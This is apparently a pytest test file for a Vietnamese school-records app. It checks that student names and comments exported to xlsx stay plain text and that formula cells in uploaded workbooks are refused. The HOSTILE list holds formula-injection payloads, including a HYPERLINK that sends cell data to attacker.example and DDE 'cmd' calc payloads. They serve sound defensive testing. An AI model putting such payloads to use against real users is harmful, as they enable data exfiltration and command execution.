"""Issue #11, finding 6: spreadsheet formula injection.

Text hocba writes into an xlsx (comments typed in a web grid, student names sent through the
API) must come back as text, never as a live formula; and a formula cell in an uploaded
workbook is refused with its sheet and cell, not imported as whatever Excel last computed.
"""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from hocba.apps.records.models import RatingEvaluation, SubjectEvaluation
from hocba.ingest.read import read_workbook
from hocba.ingest.rows import Location, RatingRow, RosterRow, SubjectRow
from hocba.ingest.templates import HEADER_ROW, TemplateStudent, evaluation_template, roster_template
from tests.apps.imports.conftest import World, world  # noqa: F401  (the fixture)

YEAR = "2024-2025"
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formula_cells(data: bytes) -> list[str]:
    """Every cell openpyxl reads as a formula, and every ``<f>`` element in the sheet XML."""
    wb = load_workbook(io.BytesIO(data))
    found = [
        f"{ws.title}!{cell.coordinate}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            sheet = name.startswith("xl/worksheets/") and name.endswith(".xml")
            if sheet and re.search(rb"<(\w+:)?f[ >/]", zf.read(name)):
                found.append(f"<f> in {name}")
    return found


def _texts(data: bytes) -> set[str]:
    wb = load_workbook(io.BytesIO(data))
    return {
        cell.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_comments_that_look_like_formulas_stay_text_in_the_evaluation_template():
    students = [TemplateStudent(f"HS{i}", "Nguyễn Văn An", "4A", 4) for i in range(len(HOSTILE))]
    here = Location("db")
    values = [
        *(
            SubjectRow(here, student_code=s.student_code, subject_code="TOAN", comment=text)
            for s, text in zip(students, HOSTILE, strict=True)
        ),
        *(
            RatingRow(
                here, student_code=s.student_code, kind="quality", code="yeu_nuoc", comment=text
            )
            for s, text in zip(students, HOSTILE, strict=True)
        ),
    ]
    data = evaluation_template(
        school_name="Trường thử", school_year=YEAR, students=students, values=values
    )
    assert _formula_cells(data) == []
    assert set(HOSTILE) <= _texts(data)


def test_student_and_guardian_names_that_look_like_formulas_stay_text_in_both_templates():
    roster = [
        RosterRow(Location("api"), student_code=f"HS{i}", full_name=text, class_name="4A")
        for i, text in enumerate(HOSTILE)
    ]
    students = [TemplateStudent(f"HS{i}", text, "=4A", 4) for i, text in enumerate(HOSTILE)]
    for data in (
        roster_template(school_name="=T", school_year=YEAR, class_names=["4A"], rows=roster),
        evaluation_template(school_name="=T", school_year=YEAR, students=students),
    ):
        assert _formula_cells(data) == []
        assert set(HOSTILE) <= _texts(data)


def test_a_formula_looking_comment_reads_back_unchanged_and_is_not_refused():
    students = [TemplateStudent("HS1", "An", "4A", 4)]
    values = [
        SubjectRow(Location("db"), student_code="HS1", subject_code="TOAN", comment="=trung bình")
    ]
    data = evaluation_template(school_name="T", school_year=YEAR, students=students, values=values)
    parsed = read_workbook(data, source="a.xlsx", school_year=YEAR)
    assert parsed.problems == []
    assert [r.comment for r in parsed.subjects if r.subject_code == "TOAN"] == ["=trung bình"]


def _with_formula(data: bytes, sheet: str, cell: str, formula: str) -> bytes:
    wb = load_workbook(io.BytesIO(data))
    wb[sheet][cell] = formula  # openpyxl writes <f>
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_an_uploaded_formula_cell_is_refused_with_its_sheet_and_cell():
    students = [TemplateStudent(f"HS{i}", "An", "4A", 4) for i in range(3)]
    data = evaluation_template(school_name="T", school_year=YEAR, students=students)
    data = _with_formula(data, "Toán", f"E{HEADER_ROW + 2}", "=9+1")
    data = _with_formula(data, "Phẩm chất, năng lực", f"D{HEADER_ROW + 1}", '=HYPERLINK("x")')
    parsed = read_workbook(data, source="a.xlsx", school_year=YEAR)
    formulas = [p for p in parsed.problems if p.code == "cell.formula"]
    assert sorted((p.where.sheet, p.where.cell) for p in formulas) == [
        ("Phẩm chất, năng lực", f"D{HEADER_ROW + 1}"),
        ("Toán", f"E{HEADER_ROW + 2}"),
    ]
    text = formulas[0].describe_vi()
    assert "công thức không được chấp nhận" in text and "ô " in text


@pytest.mark.django_db
def test_a_formula_stored_through_the_grid_or_the_api_downloads_as_text(client, world):  # noqa: F811
    enrolment = world.enrolments[0]
    student = enrolment.student
    student.full_name = HOSTILE[0]
    student.save()
    SubjectEvaluation.objects.update_or_create(
        enrolment=enrolment,
        subject_code="TOAN",
        defaults={"subject_name": "Toán", "comment": HOSTILE[1]},
    )
    RatingEvaluation.objects.update_or_create(
        enrolment=enrolment,
        kind="quality",
        code="yeu_nuoc",
        defaults={"name": "Yêu nước", "comment": HOSTILE[3]},
    )
    client.force_login(world.gvcn)
    for name in ("roster_template", "evaluation_template"):
        response = client.get(reverse(f"imports:{name}", args=[world.cls.pk]))
        assert response.status_code == 200
        assert _formula_cells(response.content) == []
        assert HOSTILE[0] in _texts(response.content)
    texts = _texts(client.get(reverse("imports:evaluation_template", args=[world.cls.pk])).content)
    assert {HOSTILE[1], HOSTILE[3]} <= texts


@pytest.mark.django_db
def test_a_formula_in_an_upload_is_listed_on_the_page_and_nothing_is_written(client, world):  # noqa: F811
    client.force_login(world.gvcn)
    data = client.get(reverse("imports:evaluation_template", args=[world.cls.pk])).content
    data = _with_formula(data, "Toán", f"L{HEADER_ROW + 1}", "=5+5")
    before = SubjectEvaluation.objects.count()
    response = client.post(
        reverse("imports:upload", args=[world.cls.pk]),
        {"file": _named(data)},
    )
    assert response.status_code == 422
    page = response.content.decode()
    assert "công thức không được chấp nhận" in page and f"L{HEADER_ROW + 1}" in page
    assert SubjectEvaluation.objects.count() == before


def _named(data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(
        "lop.xlsx",
        data,
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )
